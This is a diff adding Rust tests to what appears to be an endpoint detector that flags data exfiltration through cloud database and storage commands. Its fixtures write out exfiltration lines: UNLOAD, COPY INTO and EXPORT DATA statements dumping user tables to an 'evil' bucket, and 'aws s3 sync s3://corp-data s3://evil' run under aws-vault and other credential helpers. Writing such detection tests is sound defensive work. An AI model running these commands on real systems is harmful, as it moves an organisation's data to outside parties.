@@ -2,6 +2,92 @@
 
 use super::world::*;
 
+fn told(args: &[&str]) -> Told {
+    let name: &'static str = args[0].to_owned().leak();
+    let path: &'static str = format!("/opt/homebrew/bin/{name}").leak();
+    let mut w = World::new();
+    w.policy = format!("{CORP}\n{}", include_str!("commands/own.toml"));
+    let shell = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
+    w.spawn(1.0, &shell, adhoc(path, name), args);
+    w.tell()
+}
+
+/// The database writes into a bucket by itself: the statement is all that this Mac sees of it.
+#[test]
+fn statements_that_unload_into_foreign_buckets() {
+    for (before, statement, service, tenant) in [
+        (
+            &["aws", "redshift-data", "execute-statement", "--sql"][..],
+            "UNLOAD ('select * from users') TO 's3://BUCKET/u_' IAM_ROLE default",
+            "s3",
+            ["evil", "corp-backup"],
+        ),
+        (
+            &["aws", "athena", "start-query-execution", "--query-string"],
+            "UNLOAD (SELECT * FROM t) TO 's3://BUCKET/x' WITH (format='PARQUET')",
+            "s3",
+            ["evil", "corp-backup"],
+        ),
+        (
+            &["snowsql", "-c", "prod", "-q"],
+            "COPY INTO 's3://BUCKET/x' FROM users CREDENTIALS=(AWS_KEY_ID='x')",
+            "s3",
+            ["evil", "corp-backup"],
+        ),
+        (
+            &["snow", "sql", "--query"],
+            "copy into 'gcs://BUCKET/x' from users",
+            "gcs",
+            ["evil", "corp-archive"],
+        ),
+        (
+            &["snow", "sql", "-q"],
+            "copy into 'azure://BUCKET.blob.core.windows.net/c/x' from users",
+            "azure-blob",
+            ["evilstore", "corparchive"],
+        ),
+        (
+            &["bq", "query", "--use_legacy_sql=false"],
+            "EXPORT DATA OPTIONS(uri='gs://BUCKET/*.csv', format='CSV') AS SELECT 1",
+            "gcs",
+            ["evil", "corp-archive"],
+        ),
+        (
+            &["psql", "-h", "db.corp.example", "-c"],
+            "SELECT aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('BUCKET','x','r'))",
+            "s3",
+            ["evil", "corp-backup"],
+        ),
+    ] {
+        let line = |bucket: &str| [before, &[&*statement.replace("BUCKET", bucket).leak()]].concat();
+        let story = told(&line(tenant[0]));
+        let alert = story.alert();
+        assert_eq!((alert.service.as_deref(), alert.tenant.as_deref()), (Some(service), Some(tenant[0])));
+        assert_eq!(alert.rules[0].id.as_ref(), "cw.transfer.control-plane", "{statement}");
+        told(&line(tenant[1])).none();
+        let loads = "COPY users FROM 's3://evil/x'; copy into users from 's3://evil/x'; select 1";
+        told(&[before, &[loads]].concat()).none();
+    }
+}
+
+/// Programs that fetch credentials or set up a place to work in, and then run a command.
+#[test]
+fn what_credential_helpers_run() {
+    let script = "aws s3 sync s3://corp-data s3://evil";
+    for before in [
+        &["aws-vault", "exec", "prod", "--", "sh", "-c"][..],
+        &["op", "run", "--", "bash", "-c"],
+        &["docker", "compose", "run", "--rm", "tools", "sh", "-c"],
+        &["nohup", "aws-vault", "exec", "prod", "--", "sh", "-c"],
+    ] {
+        assert_eq!(told(&[before, &[script]].concat()).alert().tenant.as_deref(), Some("evil"), "{before:?}");
+        told(&[before, &["aws s3 sync s3://corp-data s3://corp-backup"]].concat()).none();
+    }
+    // What stands in a file, nobody can see.
+    let hidden = told(&["aws", "s3api", "put-bucket-policy", "--cli-input-json", "file://policy.json"]);
+    assert_eq!((hidden.low().tenant.as_deref(), hidden.low().tenant_verdict.as_str()), (None, "unknown"));
+}
+
 /// An entry that has expired names nobody: what goes to its bucket goes to a foreign one.
 #[test]
 fn an_expired_entry_names_nobody() {
